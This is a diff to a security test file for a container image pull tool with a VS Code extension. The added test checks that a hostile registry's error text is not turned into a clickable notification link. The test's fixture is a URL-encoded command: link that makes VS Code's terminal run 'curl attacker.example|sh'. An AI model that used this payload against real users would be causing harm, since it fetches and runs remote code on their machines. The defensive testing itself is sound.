@@ -1,7 +1,8 @@
 // Security review, second round: what security.test.ts, hostile.test.ts and split-hostile.test.ts
-// did not cover. The attacker controls a registry (its names, its error bodies, its redirects) or
-// files another tool wrote into the cache. Real Distribution registries; the loopback proxy in
-// front of one where the registry itself cannot misbehave.
+// did not cover. The attacker controls a registry (its names, its error bodies, its redirects),
+// files another tool wrote into the cache, or a cloned repository (its Dockerfile, its files).
+// Real Distribution registries; the loopback proxy in front of one where the registry itself
+// cannot misbehave. test/e2e/security-review.test.ts shows the VS Code side in VS Code itself.
 import assert from 'node:assert/strict';
 import { spawn } from 'node:child_process';
 import { createHash } from 'node:crypto';
@@ -14,6 +15,7 @@ import { parsePlatform } from '../../src/core/platform';
 import { pull } from '../../src/core/pull/pull';
 import { parseReference } from '../../src/core/reference';
 import { RegistryClient, type RequestLog } from '../../src/core/registry/client';
+import { errorText } from '../../src/vscode/workbench/failure';
 import { CLI, requireCli, runCli } from '../support/cli';
 import { TestBed } from '../support/engine';
 import { type BuiltImage, buildImage, MEDIA } from '../support/fixtures';
@@ -24,6 +26,12 @@ import type { RunningRegistry } from '../support/registry';
 const amd64 = [parsePlatform('linux/amd64')];
 /** What a terminal acts on: C0 controls but newline and tab, DEL, and the C1 controls (CSI is U+009B). */
 const TERMINAL_CONTROL = /[\x00-\x08\x0b-\x1f\x7f-\x9f]/;
+/**
+ * What VS Code's notifications turn into a link they open with commands allowed
+ * (src/vs/base/common/linkedText.ts, rendered by notificationsViewer.ts with allowCommands: true).
+ */
+const VSCODE_NOTIFICATION_LINK =
+  /\[([^\]]+)\]\(((?:https?:\/\/|command:|file:)[^)\s]+)(?: (["'])(.+?)(\3))?\)/gi;
 
 let bed: TestBed;
 let reg: RunningRegistry;
@@ -152,6 +160,24 @@ describe("a registry's error text", () => {
     await client.close();
     assert.equal(e.code, 'DENIED');
     assert.ok(e.detail.length < 1_000, `${e.detail.length} characters`);
+  });
+
+  test("shown in a VS Code notification, it does not become a link (they open commands: a terminal's sendSequence)", async () => {
+    const link =
+      'command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20attacker.example%7Csh%5Cn%22%7D';
+    const proxy = await refusing({
+      errors: [
+        { code: 'DENIED', message: `[Request access](${link}) or [read why](https://attacker.example/why)` },
+      ],
+    });
+    const client = new RegistryClient({ retry: { attempts: 1 } });
+    const e = await failure(
+      pull(await bed.store(), client, `${proxy.host}/rev/app:v1`, { platforms: amd64 }),
+    );
+    await client.close();
+    const text = errorText(e);
+    assert.match(text, /Request access/, 'what the registry said is still shown');
+    assert.deepEqual(text.match(VSCODE_NOTIFICATION_LINK), null, text);
   });
 });
 
